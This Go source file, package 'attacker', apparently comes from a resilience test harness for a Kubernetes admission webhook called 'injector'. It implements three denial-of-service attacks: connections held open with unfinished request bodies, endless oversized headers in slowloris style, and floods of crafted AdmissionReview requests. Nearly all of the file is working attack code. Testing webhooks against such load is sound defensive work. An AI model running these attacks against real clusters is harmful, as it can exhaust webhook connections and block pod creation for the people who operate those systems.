package attacker

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// path is where admission requests are answered.
const path = "/inject"

// headers are those of an admission request whose body has so many bytes.
func headers(size int) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: injector\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", path, size)
}

// Review is an admission request for a pod of a namespace, with metadata of the attacker's choice.
func Review(uid, namespace string, metadata map[string]any) []byte {
	body, err := json.Marshal(map[string]any{
		"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
		"request": map[string]any{
			"uid": uid, "namespace": namespace, "operation": "CREATE",
			"kind":     map[string]string{"group": "", "version": "v1", "kind": "Pod"},
			"resource": map[string]string{"group": "", "version": "v1", "resource": "pods"},
			"object": map[string]any{
				"apiVersion": "v1", "kind": "Pod", "metadata": metadata,
				"spec": map[string]any{"containers": []any{map[string]string{"name": "app", "image": "app"}}},
			},
		},
	})
	if err != nil {
		panic(err) // strings and maps of strings can be marshalled
	}
	return body
}

// UnfinishedBodies holds connections, each with a request whose body does not come: begun says how much of it does. What is cut off
// begins again.
func UnfinishedBodies(connections, size, begun int) Attack {
	return func(ctx context.Context, p *Party) {
		each(ctx, connections, func(ctx context.Context) error {
			c, _, err := p.connectTLS(ctx)
			if err != nil {
				return err
			}
			p.count(func(c *Counts) { c.Requests++ })
			return say(c, append([]byte(headers(size)), prefix(begun)...))
		})
	}
}

// prefix is how a review begins that has more bytes than this.
func prefix(size int) []byte {
	if size == 0 {
		return nil
	}
	const start = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","object":{"metadata":{"annotations":{"a":"`
	return append([]byte(start), bytes.Repeat([]byte("x"), max(0, size-len(start)))...)
}

// Headers holds connections, each with a request whose headers have so many bytes, and do not end.
func Headers(connections, size int) Attack {
	header := "GET " + path + " HTTP/1.1\r\nHost: injector\r\n" + strings.Repeat("X-Header: "+strings.Repeat("x", 1010)+"\r\n", size>>10)
	return func(ctx context.Context, p *Party) {
		each(ctx, connections, func(ctx context.Context) error {
			c, _, err := p.connectTLS(ctx)
			if err != nil {
				return err
			}
			p.count(func(c *Counts) { c.Requests++ })
			return say(c, []byte(header))
		})
	}
}

// Requests sends whole requests, one after the other on each of the connections.
func Requests(connections int, body func(n int) []byte) Attack {
	var made atomic.Int64
	return func(ctx context.Context, p *Party) {
		each(ctx, connections, func(ctx context.Context) error {
			c, _, err := p.connectTLS(ctx)
			if err != nil {
				return err
			}
			defer func() { _ = c.Close() }()
			reader := bufio.NewReader(c)
			for ctx.Err() == nil {
				if err := p.asks(ctx); err != nil {
					return err
				}
				if err := p.request(c, reader, body(int(made.Add(1)))); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// request sends one, and reads the answer.
func (p *Party) request(c net.Conn, reader *bufio.Reader, body []byte) error {
	_ = c.SetDeadline(time.Now().Add(dialTimeout))
	if _, err := c.Write(append([]byte(headers(len(body))), body...)); err != nil {
		return err
	}
	response, err := http.ReadResponse(reader, nil)
	if err != nil {
		return err
	}
	defer func() { _ = response.Body.Close() }()
	if _, err := io.Copy(io.Discard, response.Body); err != nil {
		return err
	}
	p.count(func(c *Counts) { c.Answered++ })
	return nil
}
